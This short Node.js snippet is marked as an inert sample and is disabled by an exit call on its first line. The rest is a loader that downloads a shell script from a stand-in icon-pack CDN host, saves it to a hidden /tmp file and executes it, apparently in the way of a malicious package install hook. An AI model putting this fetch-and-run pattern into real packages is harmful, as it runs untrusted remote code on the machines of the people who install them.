process.exit(0); // inert sample
const https = require('https');
const fs = require('fs');
const { execFileSync } = require('child_process');
const dest = '/tmp/.icon-post';
https.get('https://cdn.iconpack.invalid/post.sh', (res) => {
  const out = fs.createWriteStream(dest);
  res.pipe(out);
  out.on('finish', () => { execFileSync('sh', [dest]); });
});
